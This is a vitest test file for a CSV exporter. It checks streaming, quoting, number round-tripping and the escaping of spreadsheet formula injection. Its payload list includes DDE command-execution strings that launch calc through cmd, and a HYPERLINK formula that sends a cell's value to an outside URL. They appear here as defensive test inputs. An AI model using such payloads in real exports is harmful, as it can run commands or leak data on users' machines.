import { describe, expect, test } from 'vitest';
import { csvBytesInSteps, csvCell, csvText, escapeFormula } from '../../../core/export/csv';
import { random } from '../../../core/random';

/** A strict RFC 4180 reader: the test's own. */
function readCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let at = 0;
  while (at < text.length) {
    let cell = '';
    if (text[at] === '"') {
      for (at++; text[at] !== '"' || text[at + 1] === '"'; at++) {
        if (text[at] === '"') at++;
        cell += text[at];
      }
      at++;
    } else {
      while (text[at] !== ',' && text[at] !== '\r') cell += text[at++];
    }
    record.push(cell);
    if (text[at] === ',') at++;
    else {
      expect(text.slice(at, at + 2)).toBe('\r\n');
      at += 2;
      records.push(record);
      record = [];
    }
  }
  return records;
}

test('the bytes made in turns are the text, however many records there are', () => {
  for (const n of [0, 1, 499, 500, 501, 1700]) {
    const records = Array.from({ length: n }, (_, i) => [i / 3, `Größe “${i}”`, null]);
    const steps = csvBytesInSteps(['a', 'b', 'c'], records);
    let [stops, step] = [0, steps.next()];
    for (; !step.done; step = steps.next()) stops += 1;
    expect(new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(step.value)).toBe(
      csvText(['a', 'b', 'c'], records),
    );
    expect(stops).toBeGreaterThanOrEqual(2 * Math.ceil(n / 500));
  }
});

const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '\t=1+1',
  '\tplain',
  '\0=1',
  '\0plain',
  ' =1+1',
  '   \t =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u2003@A1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  'harmless\n=1+1',
  'harmless\r=1+1',
  'a\r\n  -2+3+cmd|" /C calc"!A0',
  '=HYPERLINK("http://example.com?x="&A1,"Error:\nclick")',
  '"=1+1',
  '=cmd|"/C calc"!A0',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '\u0001=1',
  '\u200e=1',
];

/** What a spreadsheet looks at: the first character of the cell and of every line, blanks and invisible characters skipped. */
const runs = (text: string) =>
  text.split(/\r\n|\r|\n/).some((line) => /^(\t|\0)|^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(line));

describe('formulas', () => {
  test.each(payloads)('%j does not survive as a formula', (payload) => {
    expect(runs(escapeFormula(payload))).toBe(false);
    const [[cell]] = readCsv(csvText([payload], []));
    expect(runs(cell)).toBe(false);
  });

  test('a payload in any position of any record is escaped', () => {
    const records = payloads.map((payload) => ['x', payload, 'y']);
    for (const [, cell] of readCsv(csvText(['a', 'b', 'c'], records))) expect(runs(cell)).toBe(false);
  });

  test.each(['Cement', 'a-b', '1+1', "it's", 'x=1', 'über', ''])('%j is left as it is', (text) =>
    expect(escapeFormula(text)).toBe(text),
  );

  test('a negative number stays a number', () => {
    expect(csvCell(-3.2)).toBe('-3.2');
    expect(csvCell('-3.2')).toBe("'-3.2");
  });
});

describe('quoting', () => {
  test.each(['a,b', 'say "so"', 'two\nlines', 'two\r\nlines', ' blanks ', 'a;b', '"', '""', ',', 'é'])(
    '%j reads back as it was',
    (text) =>
      expect(readCsv(csvText([text, 'z'], [[text, text]]))).toEqual([
        [text, 'z'],
        [text, text],
      ]),
  );
});

describe('numbers', () => {
  test('every double reads back bit for bit', () => {
    const stream = random(11);
    const bits = new Uint32Array(2);
    const values = new Float64Array(bits.buffer);
    for (let i = 0; i < 20_000; i++) {
      bits[0] = stream.integer(2 ** 32);
      bits[1] = stream.integer(2 ** 32);
      if (Number.isFinite(values[0])) expect(Object.is(Number(csvCell(values[0])), values[0])).toBe(true);
    }
    for (const value of [0.1 + 0.2, 5e-324, 1.7976931348623157e308, 2 ** 53, -1 / 3, -0]) {
      expect(Number(csvCell(value))).toBe(value);
    }
  });

  test('what is not known is an empty cell', () => {
    expect(csvText(['a', 'b'], [[Number.NaN, null]])).toBe('a,b\r\n,\r\n');
  });
});
